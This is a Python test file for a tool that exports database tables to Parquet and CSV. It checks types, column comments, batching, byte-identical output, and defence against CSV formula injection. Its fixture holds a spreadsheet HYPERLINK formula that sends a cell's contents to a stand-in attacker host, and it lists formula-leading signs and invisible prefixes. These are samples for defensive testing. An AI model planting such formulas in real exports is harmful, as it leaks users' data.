"""Every table of the store leaves it whole, typed, and inert in a spreadsheet."""

from __future__ import annotations

import csv
import errno
import json
from collections.abc import Iterable
from dataclasses import replace
from pathlib import Path
from typing import Any, BinaryIO

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import parquet

from flows.export import tables as exporting
from flows.export.delimited import inert_cell, original_text
from flows.export.tables import export_tables
from flows.store import dumping
from flows.store.compared.comparisons import save_comparison
from flows.store.database.engine import Store, reading
from flows.store.schema import tables
from models.errors import OutputError
from tests.stores import fill
from tests.stories import a_comparison

pytest_plugins = ["tests.databases"]

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"read\nmore")'
VALUES: dict[type, Any] = {str: FORMULA, int: -1, float: -0.25, bool: True, dict: [FORMULA, None]}
SIGNS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.fixture
def filled(store: Store) -> Store:
    """A store with a story, and in every table a row whose every text is a formula."""
    fill(store, VALUES)
    return store


def stored(store: Store, table: sa.Table) -> list[dict[str, Any]]:
    """The rows of a table, in the order of its key."""
    query = sa.select(table).order_by(*table.primary_key.columns)
    with reading(store) as connection:
        return [dict(row) for row in connection.execute(query).mappings()]


def exported(path: Path, table: sa.Table) -> list[dict[str, Any]]:
    """The rows of a Parquet file, JSON taken apart again."""
    rows: list[dict[str, Any]] = parquet.read_table(path).to_pylist()
    of_json = [c.name for c in table.columns if c.type.python_type is dict]
    for row in rows:
        row |= {name: json.loads(row[name]) for name in of_json if row[name] is not None}
    return rows


def test_parquet_holds_every_row_of_every_table(filled: Store, tmp_path: Path) -> None:
    """What is read back from Parquet equals what stands in the store, in order, types and all."""
    export_tables(filled, tmp_path)

    for table in tables.metadata.sorted_tables:
        assert exported(tmp_path / f"{table.name}.parquet", table) == stored(filled, table)


def test_parquet_keeps_types_and_comments(filled: Store, tmp_path: Path) -> None:
    """A number is a number, what may be null may be null, and columns say what they mean."""
    export_tables(filled, tmp_path)

    schema = parquet.read_schema(tmp_path / "scores.parquet")
    types = {name: str(schema.field(name).type) for name in ("source", "raw", "significant")}
    assert types == {"source": "string", "raw": "double", "significant": "bool"}
    assert schema.field("raw").nullable
    assert not schema.field("source").nullable
    for column in tables.metadata.tables["scores"].columns:
        assert schema.field(column.name).metadata[b"comment"].decode() == column.comment


def test_every_number_says_its_range(filled: Store, tmp_path: Path) -> None:
    """In README.txt and in the schema of Parquet: a table in a paper needs the unit."""
    export_tables(filled, tmp_path)
    lines = (tmp_path / "README.txt").read_text(encoding="utf-8").splitlines()
    shown = {line.split()[0]: line for line in lines if line.strip()}

    for table in tables.metadata.sorted_tables:
        schema = parquet.read_schema(tmp_path / f"{table.name}.parquet")
        for column in table.columns:
            lies = (schema.field(column.name).metadata or {}).get(b"range", b"").decode()
            assert bool(lies) == (column.type.python_type is float), (table.name, column.name)
            assert lies in shown[column.name]
    assert shown["omission"].endswith("[bits, 0 to 0.5]")


def test_csv_gives_back_every_text_and_no_formula(filled: Store, tmp_path: Path) -> None:
    """No text cell begins as a formula does, and each is the stored text once unmarked."""
    export_tables(filled, tmp_path, "csv")

    for table in tables.metadata.sorted_tables:
        with (tmp_path / f"{table.name}.csv").open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        assert len(rows) == len(stored(filled, table))
        texts = [c.name for c in table.columns if c.type.python_type is str]
        for row, there in zip(rows, stored(filled, table), strict=True):
            assert not any(row[name].startswith(SIGNS) for name in texts)
            assert [original_text(row[n]) for n in texts] == [there[n] or "" for n in texts]


def test_csv_numbers_stay_numbers(filled: Store, tmp_path: Path) -> None:
    """A negative score is no formula: a spreadsheet can reckon with it."""
    export_tables(filled, tmp_path, "csv")

    with (tmp_path / "scores.csv").open(encoding="utf-8", newline="") as file:
        divergence = [row["divergence"] for row in csv.DictReader(file)]
    assert "-0.03125" in divergence
    assert "" in divergence, "null is nothing"


@pytest.mark.parametrize(
    "unseen",
    ["\u034f", "\u061c", "\u115f", "\u180e", "\u2066", "\u2800", "\ufe0f", "\U000e0001", "\u00a0"],
)
def test_no_invisible_character_hides_a_sign(unseen: str) -> None:
    """Joiners, fillers, marks of direction, tags: whatever a program may drop on opening."""
    text = f"{unseen}=1+1"

    assert inert_cell(text) == f"'{text}"
    assert original_text(inert_cell(text)) == text


@given(st.text(st.sampled_from("'=+-@ \t\r\n\u200b\ufeff＝a1\"") | st.characters(codec="utf-8")))
def test_an_inert_cell_is_no_formula_and_loses_nothing(text: str) -> None:
    """Whatever a text is, its cell does not begin as a formula does, and gives it back."""
    cell = inert_cell(text)

    assert not cell.lstrip(" \u200b\ufeff\x00").startswith(SIGNS)
    assert original_text(cell) == text


@pytest.mark.parametrize("text", ["a=b", "3-2", "", "'tis", "“-”"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    """A sign inside a text makes no formula."""
    assert inert_cell(text) == text


def test_of_one_story_only_what_tells_of_it(filled: Store, tmp_path: Path) -> None:
    """--story leaves out other stories, other articles, and the tables of feeds."""
    story = a_comparison()
    export_tables(filled, tmp_path, story=story.id)

    files = {path.name for path in tmp_path.iterdir()}
    assert {"articles.parquet", "scores.parquet", "README.txt"} <= files
    assert "polls.parquet" not in files
    articles = exported(tmp_path / "articles.parquet", tables.story_tables.articles)
    assert {row["article"] for row in articles} == {t.article.id for t in story.tellings}
    scores = exported(tmp_path / "scores.parquet", tables.story_tables.scores)
    assert {row["story"] for row in scores} == {story.id}


def test_rows_come_in_batches(
    filled: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No more rows are in memory than a batch, and none is lost between two."""
    monkeypatch.setattr(dumping, "_BATCH", 2)
    with dumping.dumping(filled) as dump:
        sizes = [len(batch) for batch in dump.batches("sentences")]
    export_tables(filled, tmp_path)

    table = tables.story_tables.sentences
    assert max(sizes) <= 2
    assert sum(sizes) == len(stored(filled, table)) > 4
    assert exported(tmp_path / "sentences.parquet", table) == stored(filled, table)


@pytest.mark.parametrize("form", ["parquet", "csv"])
def test_the_same_store_gives_the_same_bytes(
    filled: Store, tmp_path: Path, form: exporting.Form
) -> None:
    """An export can be compared with an earlier one byte by byte."""
    for name in ("one", "two"):
        export_tables(filled, tmp_path / name, form)

    for path in (tmp_path / "one").iterdir():
        assert path.read_bytes() == (tmp_path / "two" / path.name).read_bytes(), path.name


def test_the_readme_explains_every_column(filled: Store, tmp_path: Path) -> None:
    """README.txt has each file, each column and its comment."""
    export_tables(filled, tmp_path)

    text = (tmp_path / "README.txt").read_text(encoding="utf-8")
    for table in tables.metadata.sorted_tables:
        assert f"{table.name}.parquet: " in text
        for column in table.columns:
            assert column.comment, f"{table.name}.{column.name}"
            assert column.comment in text


def test_an_export_that_fails_leaves_what_was_there(
    filled: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where the disk is full, the files of the last export stay whole and no draft stays."""
    export_tables(filled, tmp_path)
    before = {path.name: path.read_bytes() for path in tmp_path.iterdir()}
    save_comparison(filled, replace(a_comparison(), refused=()))  # written before the scores

    def full(file: BinaryIO, table: dumping.StoredTable, batches: Iterable[Any]) -> int:
        if table.name == "scores":
            raise OSError(errno.ENOSPC, "No space left on device")
        return exporting.write_parquet(file, table, batches)

    monkeypatch.setitem(exporting._WRITERS, "parquet", full)
    with pytest.raises(OutputError, match="No space left on device"):
        export_tables(filled, tmp_path)
    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == before


def test_a_folder_that_cannot_be_made_is_named(filled: Store, tmp_path: Path) -> None:
    """The error names the folder and the option that gives another."""
    (tmp_path / "file").write_text("in the way", encoding="utf-8")

    with pytest.raises(OutputError, match=r"file.*--out"):
        export_tables(filled, tmp_path / "file" / "below")
